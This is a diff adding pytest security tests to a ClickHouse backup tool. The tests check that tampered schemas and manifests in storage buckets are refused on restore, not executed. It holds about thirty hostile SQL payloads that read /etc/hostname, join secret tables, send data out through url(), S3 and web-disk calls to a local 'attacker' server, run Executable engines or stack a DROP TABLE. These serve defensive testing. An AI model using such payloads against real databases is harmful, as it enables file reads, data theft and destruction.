@@ -1,0 +1,232 @@
+"""What a bucket says is hostile: nothing of it is executed, whatever the command."""
+
+import json
+import socket
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from db_backup_harness import BACKUPS, LAYOUT, BackupTool
+
+
+@pytest.fixture
+def attacker() -> Iterator[str]:
+    """The address of a server of the attacker's, to which nobody may ever connect."""
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        yield f"http://127.0.0.1:{server.getsockname()[1]}"
+        server.settimeout(0)
+        with pytest.raises(BlockingIOError):  # nobody has
+            server.accept()
+
+
+@pytest.fixture
+def hostile_tool(backup_tool: BackupTool) -> BackupTool:
+    """A tool with an export and a backup of a table, and accounts that are nobody's business."""
+    backup_tool.database.execute("CREATE TABLE accounts (x String) ENGINE = MergeTree ORDER BY x")
+    backup_tool.database.execute("INSERT INTO accounts VALUES ('secret')")
+    backup_tool.database.execute("CREATE TABLE a (x UInt64) ENGINE = MergeTree ORDER BY x")
+    backup_tool.database.execute("INSERT INTO a VALUES (1)")
+    backup_tool.keep_private(tables={"a": "both", "*": "none"})
+    status, printed = backup_tool.run("run")
+    assert status == 0, printed
+    return backup_tool
+
+
+def hostile_schemas(url: str, folder: Path) -> dict[str, str]:
+    """Return schemas of a table by what is wrong with them."""
+    file = folder / "stolen.csv"
+    column, rest = "`x` UInt64", "ENGINE = MergeTree\nORDER BY tuple()"
+    steal = f"SELECT * FROM url('{url}/', CSV, 'x UInt64')"
+    calls = {
+        "file": "length(file('/etc/hostname'))",
+        "dictionary": "dictGet('secrets', 'x', 1)",
+        "joined": "joinGet('accounts', 'x', 1)",
+        "setting": "getSetting('max_threads')",
+        "in a call": "plus(1, length(file('/etc/hostname')))",
+        "in a lambda": "arrayMap(y -> length(file(y)), ['/etc/hostname'])[1]",
+        "subquery": f"(SELECT count() FROM url('{url}/', CSV, 'x String'))",
+        "IN": "x IN (accounts)",
+        "quoted": "length(`file`('/etc/hostname'))",
+        "look-alike": "length(f\uff49le('/etc/hostname'))",
+    }
+    places = {
+        "DEFAULT": "`x` UInt64 DEFAULT {}",
+        "MATERIALIZED": "`x` UInt64, `y` UInt64 MATERIALIZED {}",
+        "ALIAS": "`x` UInt64, `y` UInt64 ALIAS {}",
+        "INDEX": "`x` UInt64, INDEX i {} TYPE minmax GRANULARITY 1",
+        "CHECK": "`x` UInt64, CONSTRAINT c CHECK {} < 0",
+        "PROJECTION": "`x` UInt64, PROJECTION p (SELECT x, {} ORDER BY x)",
+    }
+    schemas = {
+        f"{call} in {place}": f"CREATE TABLE d.a\n(\n    {places[place].format(sql)}\n)\n{rest}"
+        for place, (call, sql) in zip(
+            [*places, "DEFAULT", "DEFAULT", "MATERIALIZED", "CHECK"], calls.items(), strict=True
+        )
+    }
+    tails = {
+        "AS SELECT": f"{rest}\nAS {steal}",
+        "AS SELECT of accounts": f"{rest} AS SELECT 1 AS x FROM accounts",
+        "TTL": f"{rest}\nTTL toDateTime(length(file('/etc/hostname')))",
+        "PARTITION BY": "ENGINE = MergeTree\nPARTITION BY file('/etc/hostname')\nORDER BY tuple()",
+        "ORDER BY": "ENGINE = MergeTree\nORDER BY file('/etc/hostname')",
+        "disk": f"{rest}\nSETTINGS disk = disk(type = web, endpoint = '{url}/')",
+        "storage policy": f"{rest}\nSETTINGS storage_policy = 'default'",
+        "comment": f"{rest}\nCOMMENT concat('a', file('/etc/hostname'))",
+        "URL": f"ENGINE = URL('{url}/', 'CSV')",
+        "File": f"ENGINE = File('CSV', '{file}')",
+        "S3": f"ENGINE = S3('{url}/b/a.csv', 'CSV')",
+        "Merge": "ENGINE = Merge(currentDatabase(), 'accounts')",
+        "Distributed": "ENGINE = Distributed('default', currentDatabase(), 'accounts')",
+        "Buffer": "ENGINE = Buffer(currentDatabase(), 'accounts', 1, 1, 1, 1, 1, 1, 1)",
+        "Executable": "ENGINE = Executable('a.sh', 'CSV')",
+        "RocksDB": f"ENGINE = EmbeddedRocksDB(0, '{folder}')\nPRIMARY KEY x",
+        "two statements": f"{rest}; DROP TABLE accounts",
+        "comment of SQL": f"{rest} -- a comment",
+    }
+    schemas |= {
+        name: f"CREATE TABLE d.a\n(\n    {column}\n)\n{tail}" for name, tail in tails.items()
+    }
+    return schemas | {
+        "function": f"CREATE TABLE FUNCTION url('{url}/', CSV, 'x UInt64')",
+        "view": f"CREATE VIEW d.a AS {steal}",
+        "materialized view": f"CREATE MATERIALIZED VIEW d.a TO d.accounts AS {steal}",
+        "dictionary": f"CREATE DICTIONARY d.a (`x` UInt64) PRIMARY KEY x SOURCE(HTTP(URL '{url}/'))"
+        " LIFETIME(1) LAYOUT(FLAT())",
+        "nothing": "",
+    }
+
+
+def change(tool: BackupTool, bucket: str, key: str, edit: Callable[[Any], None]) -> None:
+    """Change a document in a bucket."""
+    document = json.loads(tool.client.get_object(Bucket=bucket, Key=key)["Body"].read())
+    edit(document)
+    tool.client.put_object(Bucket=bucket, Key=key, Body=json.dumps(document).encode())
+
+
+def tables(tool: BackupTool) -> list[str]:
+    """Return all tables of all databases that are not the server's own."""
+    rows = tool.database.execute(
+        "SELECT database || '.' || name FROM system.tables WHERE database NOT IN"
+        " ('system', 'information_schema', 'INFORMATION_SCHEMA') ORDER BY 1"
+    )
+    return [name for (name,) in rows]
+
+
+@pytest.mark.long
+def test_no_schema_of_an_export_is_executed(
+    hostile_tool: BackupTool, attacker: str, tmp_path: Path
+) -> None:
+    before = tables(hostile_tool)
+    schemas = hostile_schemas(attacker, tmp_path)
+    assert len(schemas) >= 25
+    for name, schema in schemas.items():
+
+        def edit(document: dict[str, Any], schema: str = schema) -> None:
+            document["schema"] = schema
+
+        change(hostile_tool, hostile_tool.bucket_name, LAYOUT.manifest("a"), edit)
+        status, printed = hostile_tool.run("restore", "a", "--from", "exports", "--as", "back")
+        assert status == 65, f"{name}: {printed}"
+        assert "--trust-definitions" in printed
+        assert tables(hostile_tool) == before, name
+    assert not (tmp_path / "stolen.csv").exists()
+
+
+@pytest.mark.parametrize(
+    "kind", ["UInt64 DEFAULT length(file('/etc/hostname'))", "UInt64, y String", "Secret", ""]
+)
+def test_no_type_of_an_export_is_executed(hostile_tool: BackupTool, kind: str) -> None:
+    change(
+        hostile_tool,
+        hostile_tool.bucket_name,
+        LAYOUT.manifest("a"),
+        lambda document: document.update(columns=[["x", kind]]),
+    )
+    assert hostile_tool.run("restore", "a", "--from", "exports", "--as", "back")[0] == 65
+
+
+@pytest.mark.long
+def test_no_definition_of_a_backup_is_executed(
+    hostile_tool: BackupTool, attacker: str, tmp_path: Path
+) -> None:
+    before = tables(hostile_tool)
+    (backup,) = hostile_tool.backups()
+    for name, schema in hostile_schemas(attacker, tmp_path).items():
+
+        def edit(document: dict[str, Any], schema: str = schema) -> None:
+            document["tables"]["a"] |= {"schema": schema, "storage_schema": schema}
+            document["definitions"]["a"] = schema
+
+        manifest = BACKUPS.manifest(backup.name)
+        change(hostile_tool, hostile_tool.private_bucket_name, manifest, edit)
+        for command in (["restore", "a"], ["restore", "--all", "--to-database", "elsewhere"]):
+            status, printed = hostile_tool.run(*command)
+            assert status == 65, f"{name}: {command}: {printed}"
+        assert hostile_tool.run("verify", "a", "--from", backup.name)[0] == 65, name
+        hostile_tool.database.execute("DROP DATABASE IF EXISTS elsewhere SYNC")
+        assert tables(hostile_tool) == before, name
+    assert not (tmp_path / "stolen.csv").exists()
+
+
+def test_a_view_of_an_unsigned_backup_is_shown_and_not_made(
+    hostile_tool: BackupTool, attacker: str
+) -> None:
+    (backup,) = hostile_tool.backups()
+    view = f"CREATE VIEW d.v AS SELECT * FROM url('{attacker}/\x1b[2J', CSV, 'x UInt64')"
+    change(
+        hostile_tool,
+        hostile_tool.private_bucket_name,
+        BACKUPS.manifest(backup.name),
+        lambda document: document["definitions"].update(v=view),
+    )
+    status, printed = hostile_tool.run("restore", "--all", "--to-database", "elsewhere")
+    try:
+        assert status == 0, printed
+        assert "v (its definition is not signed) is not made" in printed
+        assert "CREATE VIEW d.v AS SELECT * FROM url(" in printed
+        assert "\x1b" not in printed
+        made = hostile_tool.database.execute("SHOW TABLES FROM elsewhere")
+        assert ("v",) not in made
+        assert ("a",) in made
+    finally:
+        hostile_tool.database.execute("DROP DATABASE IF EXISTS elsewhere SYNC")
+
+
+def test_the_server_reads_no_base_that_is_elsewhere(
+    hostile_tool: BackupTool, attacker: str
+) -> None:
+    (backup,) = hostile_tool.backups()
+    key = BACKUPS.server_backup(backup.name, "incremental") + ".backup"
+    original = hostile_tool.get_private(key)
+    base = f"<base_backup>S3('{attacker}/b/')</base_backup><contents>".encode()
+    elsewhere = original.replace(b"<contents>", base).replace(
+        b"</size>", b"</size><use_base>true</use_base>"
+    )
+    assert elsewhere != original
+    manifest = BACKUPS.manifest(backup.name)
+
+    def forget(document: dict[str, Any]) -> None:
+        document["parts"]["incremental"]["sha256"] = ""
+
+    hostile_tool.client.put_object(Bucket=hostile_tool.private_bucket_name, Key=key, Body=elsewhere)
+    for says in ("is not the one that was written", "has its base elsewhere"):
+        for command in (["restore", "a"], ["verify", "--from", backup.name]):
+            status, printed = hostile_tool.run(*command)
+            assert status == 65, printed
+            assert says in printed
+        change(hostile_tool, hostile_tool.private_bucket_name, manifest, forget)
+
+
+def test_a_collection_that_nobody_here_has_named_is_not_used(hostile_tool: BackupTool) -> None:
+    (backup,) = hostile_tool.backups()
+    change(
+        hostile_tool,
+        hostile_tool.private_bucket_name,
+        BACKUPS.manifest(backup.name),
+        lambda document: document.update(collection="somebody_elses"),
+    )
+    status, printed = hostile_tool.run("restore", "a")
+    assert status == 78
+    assert "private_named_collection" in printed
